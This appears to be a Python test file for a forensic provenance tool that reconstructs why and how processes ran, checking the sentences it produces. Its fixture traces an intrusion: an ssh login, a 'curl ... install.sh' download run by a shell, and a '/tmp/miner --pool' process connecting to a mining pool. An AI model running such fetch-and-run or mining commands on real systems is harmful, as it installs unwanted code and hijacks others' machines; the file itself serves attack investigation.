# SPDX-License-Identifier: GPL-3.0-or-later
"""The finished answers: why, impact, story."""
import json
import unittest

from support import spyq
from test_verbs import EDGES, TRACES, changed_store


def rows(store, *arguments):
    result = spyq("--json", *arguments, on=store)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def told(store, *arguments):
    return [row["sentence"] for row in rows(store, *arguments)]


class Stories(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.store = changed_store("stories.db", TRACES + EDGES)

    def assert_in_order(self, sentences, *wanted):
        """Each of these is the beginning of a sentence, and they come in this order."""
        at = -1
        for start in wanted:
            later = [i for i, sentence in enumerate(sentences) if i > at and sentence.startswith(start)]
            self.assertTrue(later, f"no {start!r} after {sentences[max(at, 0)]!r} in\n" + "\n".join(sentences))
            at = later[0]

    def test_why_back_to_the_login(self):
        self.assert_in_order(
            told(self.store, "why", "9"),
            "It is part of trace 2: ssh login of ana from 198.51.100.7",
            "sshd (pid 812, root) took a connection from 198.51.100.7 port 50022 on port 22",
            "sshd (pid 812, root) ran -bash (pid 815, as ana)",
            'bash (pid 815, ana) ran "curl -s https://example.org/install.sh" (pid 900)',
            "curl (pid 900, ana) connected to example.org (93.184.216.34 port 443)",
            'dash (pid 901, ana) ran "/tmp/miner --pool 203.0.113.9:3333 --quiet" (pid 910)',
            "miner (pid 910, ana) ran /tmp/miner, which curl (pid 900, ana) had written",
            "miner (pid 910, ana) connected to 203.0.113.9 port 3333",
            "The search went no further than init (pid 1, root)",
            "From here to 2026-11-22T03:11:00Z something of class network may be missing: 12 records")

    def test_proofs(self):
        row = next(row for row in rows(self.store, "why", "9") if row["kind"] == "file")
        self.assertEqual((row["proofs"], row["count"]), (["edges:21", "files:1"], 1))

    def test_impact_of_a_login(self):
        sentences = told(self.store, "impact", "trace:2")
        self.assert_in_order(
            sentences,
            "sshd (pid 812, root) ran -bash (pid 815, as ana)",
            "curl (pid 900, ana) connected to nginx (pid 501, www-data) at 127.0.0.1 port 8080")
        self.assertFalse([s for s in sentences if "pid 950" in s or "listened" in s])

    def test_who_serves_a_listener(self):
        self.assert_in_order(
            told(self.store, "why", "3"),
            'nginx (pid 500, root), "nginx: master process /usr/sbin/nginx", was running when',
            "nginx (pid 500, root) listened on tcp 0.0.0.0 port 8080",
            "nginx (pid 500, root) had nginx (pid 501) serve tcp 0.0.0.0 port 8080: 1 connection")

    def test_who_is_left(self):
        self.assert_in_order(told(self.store, "impact", "6"), "miner (pid 910, ana) was killed by signal 9",
                             "Still running: bash (pid 815, ana)")

    def test_json_that_is_none(self):
        """A store may hold anything: a story does without what it cannot read."""
        name = changed_store("badjson.db", """
            UPDATE execs SET argv = '[not json' WHERE id = 9;
            INSERT INTO privileges (id, process_id, at, kind, old, new, host_id) VALUES
            (1, 9, 1795317132000000000, 'setuid', '{"uid"', '{', 1),
            (2, 9, 1795317133000000000, 'mount', NULL, '[]', 1);
            INSERT INTO dns_queries (id, process_id, at, name, answers, host_id) VALUES
            (1, 9, 1795317134000000000, 'x.example', '[', 1);""")
        sentences = told(name, "why", "9")
        self.assert_in_order(sentences, 'dash (pid 901, ana) ran "[not json" (pid 910)',
                             "miner (pid 910, ana) asked for the address of x.example")
